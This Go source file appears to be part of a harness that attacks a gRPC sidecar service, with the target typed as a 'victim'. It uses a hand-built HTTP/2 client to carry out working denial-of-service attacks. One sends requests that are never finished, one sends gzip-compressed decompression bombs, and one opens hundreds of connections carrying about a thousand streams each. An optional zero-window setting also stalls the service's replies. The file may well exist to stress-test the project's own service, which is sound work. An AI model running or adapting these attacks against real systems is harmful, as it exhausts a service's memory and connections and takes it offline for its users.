package main

import (
	"bytes"
	"cmp"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	configv1 "github.com/sidekeeper/sidekeeper/gen/sidekeeper/config/v1"
	lockv1 "github.com/sidekeeper/sidekeeper/gen/sidekeeper/lock/v1"
)

// A frames is one connection that speaks HTTP/2 as no client of gRPC does. It heeds flow control and answers pings, since who does
// not is soon closed.
type frames struct {
	conn   *tls.Conn
	framer *http2.Framer
	unread bool // whether answers get no window

	mu      sync.Mutex
	window  int64 // of the connection
	initial int64 // of a stream
	next    uint32
	fields  bytes.Buffer
	encoder *hpack.Encoder
	streams map[uint32]*unsent
}

// An unsent is what is left of a stream's request, and its window.
type unsent struct {
	window int64
	body   []byte
}

func openFrames(ctx context.Context, on victim, unread bool) (*frames, error) {
	config, err := on.identity()
	if err != nil {
		return nil, err
	}
	conn, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", on.Calls)
	if err != nil {
		return nil, err
	}
	f := &frames{
		conn: conn.(*tls.Conn), framer: http2.NewFramer(conn, conn), unread: unread,
		window: 65535, initial: 65535, next: 1, streams: map[uint32]*unsent{},
	}
	f.encoder = hpack.NewEncoder(&f.fields)
	if _, err = conn.Write([]byte(http2.ClientPreface)); err == nil && unread {
		err = f.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	} else if err == nil {
		err = f.framer.WriteSettings()
	}
	if err != nil {
		conn.Close()
	}
	return f, err
}

// call begins a stream. The body is sent as far as there is a window for it, and the request is never ended.
func (f *frames) call(method string, body []byte, more ...string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.fields.Reset()
	fields := append([]string{
		":method", "POST", ":scheme", "https", ":path", method, ":authority", "sidecar", "content-type", "application/grpc", "te", "trailers",
	}, more...)
	for i := 0; i < len(fields); i += 2 {
		_ = f.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	number := f.next
	f.next += 2
	f.streams[number] = &unsent{f.initial, body}
	err := f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: number, BlockFragment: f.fields.Bytes(), EndHeaders: true})
	if err != nil {
		return err
	}
	return f.send(number)
}

// send sends what the windows allow. It is locked.
func (f *frames) send(number uint32) error {
	s := f.streams[number]
	if s == nil {
		return nil
	}
	for {
		size := min(int64(len(s.body)), s.window, f.window, 16<<10)
		if size <= 0 {
			return nil
		}
		if err := f.framer.WriteData(number, false, s.body[:size]); err != nil {
			return err
		}
		s.body, s.window, f.window = s.body[size:], s.window-size, f.window-size
	}
}

// open is how many streams are open.
func (f *frames) open() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.streams)
}

// read reads until the connection ends.
func (f *frames) read() error {
	for {
		frame, err := f.framer.ReadFrame()
		if err != nil {
			return err
		}
		f.mu.Lock()
		err = f.heard(frame)
		f.mu.Unlock()
		if err != nil {
			return err
		}
	}
}

func (f *frames) heard(frame http2.Frame) error {
	switch frame := frame.(type) {
	case *http2.SettingsFrame:
		if frame.IsAck() {
			return nil
		}
		if size, ok := frame.Value(http2.SettingInitialWindowSize); ok {
			f.resize(int64(size))
		}
		return f.framer.WriteSettingsAck()
	case *http2.PingFrame:
		if !frame.IsAck() {
			return f.framer.WritePing(true, frame.Data)
		}
	case *http2.WindowUpdateFrame:
		return f.widen(frame.StreamID, int64(frame.Increment))
	case *http2.RSTStreamFrame:
		delete(f.streams, frame.StreamID)
	case *http2.HeadersFrame:
		if frame.StreamEnded() {
			delete(f.streams, frame.StreamID)
		}
	case *http2.DataFrame:
		if size := uint32(len(frame.Data())); size > 0 && !f.unread {
			return f.framer.WriteWindowUpdate(0, size)
		}
	}
	return nil
}

// resize takes in how large the windows of streams are at first.
func (f *frames) resize(initial int64) {
	for _, s := range f.streams {
		s.window += initial - f.initial
	}
	f.initial = initial
}

// widen takes in that more may be sent on a stream, or on all of them together if it is 0, and sends it.
func (f *frames) widen(stream uint32, by int64) (err error) {
	if stream != 0 {
		if s := f.streams[stream]; s != nil {
			s.window += by
		}
		return f.send(stream)
	}
	f.window += by
	for number := range f.streams {
		err = cmp.Or(err, f.send(number))
	}
	return err
}

// keepCalls keeps so many streams open on so many connections: twice a second it begins as many as have ended.
func keepCalls(ctx context.Context, on victim, connections, streams int, unread bool, call func(f *frames) error) (string, error) {
	var begun, refused atomic.Int64
	again(ctx, connections, time.Second, func(int) {
		f, err := openFrames(ctx, on, unread)
		if err != nil {
			refused.Add(1)
			return
		}
		defer f.conn.Close()
		over := context.AfterFunc(ctx, func() { f.conn.Close() })
		defer over()
		read := make(chan struct{})
		go func() {
			defer close(read)
			_ = f.read()
		}()
		for {
			for range streams - f.open() {
				if call(f) != nil {
					break
				}
				begun.Add(1)
			}
			select {
			case <-read:
				return
			case <-time.After(500 * time.Millisecond):
			}
		}
	})
	return fmt.Sprintf("%d streams begun, %d connections refused", begun.Load(), refused.Load()), nil
}

// keepIncomplete sends all of each request but its last byte.
func keepIncomplete(ctx context.Context, on victim, connections, streams int) (string, error) {
	const size = 1 << 20
	body := append([]byte{0, 0, 0, 0, 0}, make([]byte, size-1)...)
	binary.BigEndian.PutUint32(body[1:], size)
	return keepCalls(ctx, on, connections, streams, false, func(f *frames) error {
		return f.call(configv1.ConfigService_Put_FullMethodName, body)
	})
}

// keepCompressed sends streams' requests of 1 MB in the 1 KB they are compressed to.
func keepCompressed(ctx context.Context, on victim) (string, error) {
	request, err := proto.Marshal(&lockv1.WatchRequest{Name: "attack/compressed"})
	if err != nil {
		return "", err
	}
	// Field 15 is not known, so that its bytes are kept beside the request.
	request = append(binary.AppendUvarint(append(request, 15<<3|2), 1000000), make([]byte, 1000000)...)
	var small bytes.Buffer
	packer := gzip.NewWriter(&small)
	_, _ = packer.Write(request)
	packer.Close()
	body := append([]byte{1, 0, 0, 0, 0}, small.Bytes()...)
	binary.BigEndian.PutUint32(body[1:], uint32(small.Len()))
	return keepCalls(ctx, on, 2, 1000, false, func(f *frames) error {
		return f.call(lockv1.LockService_Watch_FullMethodName, body, "grpc-encoding", "gzip")
	})
}

// keepStreams asks for as many streams as HTTP/2 lets it, each for a lock of its own.
func keepStreams(ctx context.Context, on victim) (string, error) {
	var number atomic.Int64
	return keepCalls(ctx, on, 740, 1024, false, func(f *frames) error {
		request, err := proto.Marshal(&lockv1.WatchRequest{Name: fmt.Sprintf("attack/streams/%d", number.Add(1))})
		if err != nil {
			return err
		}
		return f.call(lockv1.LockService_Watch_FullMethodName, framed(request))
	})
}

// framed is a message as gRPC sends it.
func framed(message []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
}
